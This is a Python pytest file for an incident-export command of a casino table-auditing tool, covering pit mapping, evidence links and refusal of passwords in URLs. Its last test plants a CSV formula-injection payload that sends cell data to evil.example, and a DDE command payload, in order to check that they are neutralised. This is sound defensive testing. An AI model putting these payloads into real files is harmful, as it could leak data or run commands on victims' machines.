"""`auditor incidents`: each incident's status, the time it was reported, its table's pit and
a link to its evidence that works away from this machine (a path relative to the export
folder, or an address under the settings' evidence-url), never a password from settings.

The floor is laid out as docs/night.md's cron line lays it out: each night's report in
`reports/NIGHT/`, its incidents in `incidents/NIGHT/`; the night's folder is given a name
with a space and a `#` (which must not end the link's path or start its anchor)."""

from __future__ import annotations

import csv
import json
from datetime import datetime
from pathlib import Path
from urllib.parse import unquote

import pytest
from sqlalchemy import select

from auditor.cli import main
from auditor.store import open_store, schema
from tests.helpers.midnight_records import RECORD

NIGHT = "2026-11-22 #1"
PASSWORD = "s3cret-Pw9"


def rows(folder: Path) -> list[dict[str, str]]:
    with (folder / "incidents.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def audited(floor: Path, store: str, record: str = RECORD) -> tuple[Path, list[str]]:
    """The night audited into floor/reports/NIGHT; its report and finding IDs."""
    records = floor / "records"
    records.mkdir(parents=True)
    (records / "t4.bjh").write_text(record, encoding="utf-8")
    out = floor / "reports" / NIGHT
    assert main(["audit", str(records), "--out", str(out), "--store", store, "--quiet",
                 "--jobs", "1"]) == 1
    document = json.loads((out / "findings.json").read_text(encoding="utf-8"))
    return out / "report.html", [f["id"] for f in document["findings"]]


def export(floor: Path, store: str, settings: str) -> tuple[int, Path]:
    config = floor / "bjh-auditor.toml"
    config.write_text(settings, encoding="utf-8")
    folder = floor / "incidents" / NIGHT
    code = main(["incidents", "--store", store, "--config", str(config), "--out",
                 str(folder), "--quiet"])
    return code, folder


def marks(store: str) -> list[str]:
    engine = open_store(store, read_only=True)
    with engine.connect() as connection:
        found = list(connection.execute(select(schema.incident_exports.c.exported)).scalars())
    engine.dispose()
    return found


def test_status_reported_pit_and_a_relative_link_to_the_report(tmp_path, store_url) -> None:
    floor = tmp_path / "srv"
    report, ids = audited(floor, store_url)
    code, folder = export(floor, store_url, '[pits]\n"RL-9/T4" = "Pit 3"\n')
    assert code == 0
    exported = rows(folder)
    relative = "../../reports/2026-11-22%20%231/report.html"
    assert [(r["incident_id"], r["status"], r["licensee"], r["pit"], r["table"],
             r["evidence"]) for r in exported] == [
        (finding, "new", "RL-9", "Pit 3", "T4", f"{relative}#finding-{finding}")
        for finding in ids]
    # the link, read as a URL from the export folder, is the report the audit wrote
    path, anchor = exported[0]["evidence"].split("#")
    assert (folder / unquote(path)).resolve() == report.resolve() and report.is_file()
    assert anchor == f"finding-{ids[0]}"
    # reported: the export's instant, the one the store's mark of these incidents holds
    document = json.loads((folder / "incidents.json").read_text(encoding="utf-8"))
    [mark] = set(marks(store_url))
    moment = datetime.fromisoformat(mark.split("/")[0]).replace(microsecond=0)
    assert {r["reported"] for r in exported} == {moment.isoformat()} == {
        document["exported"]}
    assert moment.utcoffset().total_seconds() == 0
    first = document["incidents"][0]
    assert (first["status"], first["reported"], first["location"], first["evidence"]) == (
        "new", moment.isoformat(), {"licensee": "RL-9", "casino": "Test", "pit": "Pit 3",
                                    "table": "T4"}, exported[0]["evidence"])


def test_an_unmapped_table_has_no_pit_and_a_table_id_alone_maps(tmp_path, store_url) -> None:
    floor = tmp_path / "srv"
    audited(floor, store_url)
    code, folder = export(floor, store_url, '[pits]\n"T5" = "Pit 9"\n')
    assert code == 0 and {r["pit"] for r in rows(folder)} == {""}
    assert json.loads((folder / "incidents.json").read_text("utf-8"))[
        "incidents"][0]["location"]["pit"] is None
    other = tmp_path / "other"
    audited(other, store_url)
    code, folder = export(other, store_url, '[pits]\n"T4" = "Pit 4"\n')
    # (the same record: exported before; --again is not needed to see the mapping, the
    # store's run 2 has the same IDs, so the export is empty: export run 2 again instead)
    assert code == 0 and rows(folder) == []
    assert main(["incidents", "--store", store_url, "--config",
                 str(other / "bjh-auditor.toml"), "--out", str(folder), "--again",
                 "--quiet"]) == 0
    assert {r["pit"] for r in rows(folder)} == {"Pit 4"}


def test_the_link_is_an_address_under_the_evidence_url(tmp_path, store_url) -> None:
    floor = tmp_path / "srv"
    _, ids = audited(floor, store_url)
    # evidence-root left out: the settings file's folder, floor/
    code, folder = export(floor, store_url,
                          'evidence-url = "https://reports.floor.example/audit/"\n')
    assert code == 0
    assert [r["evidence"] for r in rows(folder)] == [
        f"https://reports.floor.example/audit/reports/2026-11-22%20%231/report.html"
        f"#finding-{finding}" for finding in ids]
    # a root given (relative to the settings file's folder), the address without a slash
    code, folder = export(floor, store_url,
                          'evidence-url = "http://10.1.2.3:8080/r"\nevidence-root = "reports"\n')
    assert code == 0 and rows(folder) == []  # nothing new: --again writes them
    assert main(["incidents", "--store", store_url, "--config",
                 str(floor / "bjh-auditor.toml"), "--out", str(folder), "--again",
                 "--quiet"]) == 0
    assert rows(folder)[0]["evidence"] == (
        f"http://10.1.2.3:8080/r/2026-11-22%20%231/report.html#finding-{ids[0]}")


def test_a_report_outside_the_evidence_root_exports_nothing(tmp_path, store_url,
                                                            capsys) -> None:
    floor = tmp_path / "srv"
    audited(floor, store_url)
    root = tmp_path / "elsewhere"
    root.mkdir()
    capsys.readouterr()
    code, folder = export(floor, store_url, 'evidence-url = "https://r.example/"\n'
                                            f'evidence-root = "{root}"\n')
    assert code == 2
    assert capsys.readouterr().err == (
        f"auditor: the run's report.html is not under the settings' evidence-root "
        f"({root}): no evidence-url address can be made for it\n")
    # nothing sent (the folder, made before the export, stays empty), none remembered
    assert list(folder.iterdir()) == [] and marks(store_url) == []
    code, folder = export(floor, store_url, "")
    assert code == 0 and len(rows(folder)) == 3


@pytest.mark.parametrize("address", [
    f"https://surv:{PASSWORD}@reports.floor.example/audit/",
    f"https://{PASSWORD}@reports.floor.example/",
    f"https://reports.floor.example/?token={PASSWORD}"])
def test_a_password_in_the_evidence_url_is_never_written(tmp_path, store_url, capsys,
                                                        address) -> None:
    """An address with a user name, a password (or a query, where tokens go) is refused
    before anything is written, and the message does not repeat it."""
    floor = tmp_path / "srv"
    audited(floor, store_url)
    capsys.readouterr()
    code, folder = export(floor, store_url, f'evidence-url = "{address}"\n')
    assert code == 2
    printed = capsys.readouterr()
    assert PASSWORD not in printed.out + printed.err
    assert "evidence-url" in printed.err and printed.err.count("\n") == 1
    assert not folder.exists() and marks(store_url) == []  # (refused with the settings)
    written = [p for p in tmp_path.rglob("*") if p.is_file()
               and p.name != "bjh-auditor.toml"]
    assert written and not [p for p in written if PASSWORD.encode() in p.read_bytes()]


def test_a_hostile_pit_name_or_casino_is_neutral_in_the_csv(tmp_path, store_url) -> None:
    """A pit name (settings) or a casino name (the record) that would start a formula gets
    a leading apostrophe in incidents.csv; incidents.json keeps it exact. (A table ID cannot
    start one: BJH 1 identifiers begin with a letter or digit, and a record whose table ID
    does not is refused at its header.)"""
    floor = tmp_path / "srv"
    pit = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    casino = "@SUM(1+1)*cmd|' /C calc'!A0"
    audited(floor, store_url, RECORD.replace('casino "Test"', f'casino "{casino}"'))
    code, folder = export(floor, store_url, f"[pits]\n'RL-9/T4' = '{pit}'\n")
    assert code == 0
    assert {(r["pit"], r["casino"], r["table"]) for r in rows(folder)} == {
        ("'" + pit, "'" + casino, "T4")}
    document = json.loads((folder / "incidents.json").read_text(encoding="utf-8"))
    assert document["incidents"][0]["location"]["pit"] == pit
